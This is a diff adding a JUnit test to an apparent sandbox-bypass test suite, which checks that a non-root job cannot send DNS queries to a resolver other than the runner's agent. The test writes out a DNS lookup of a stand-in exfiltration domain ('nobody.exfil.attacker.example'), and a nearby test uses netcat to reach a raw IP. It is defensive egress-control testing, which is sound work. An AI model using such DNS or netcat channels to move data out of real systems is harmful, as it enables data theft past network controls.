@@ -187,6 +187,17 @@ abstract class BypassSuite {
     }
 
     @Test
+    void dnsToTheRunnersOwnResolverWithoutRoot() throws Exception {
+        // the agent forwards to this resolver itself, from root-owned sockets; a job without root may not
+        ExecResult r = runner("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
+                "dig", "+time=2", "+tries=1", "@198.18.0.53", "nobody.exfil.attacker.example");
+        outcome(r, printed("status: NXDOMAIN"));
+        ConnectionEvent e = flow("198.18.0.53", 53, "udp", "output", flowVerdict());
+        assertThat(e.reason()).isEqualTo("DNS to a resolver other than the agent");
+        assertThat(sandbox.queryLog().contains("nobody.exfil.attacker.example")).isEqualTo(!blocking());
+    }
+
+    @Test
     void dnsOverTlsToARawIp() throws Exception {
         ExecResult r = runner("bash", "-c", "nc -w 2 198.18.8.8 853 </dev/null");
         outcome(r, printed("DNS-over-TLS stand-in"));
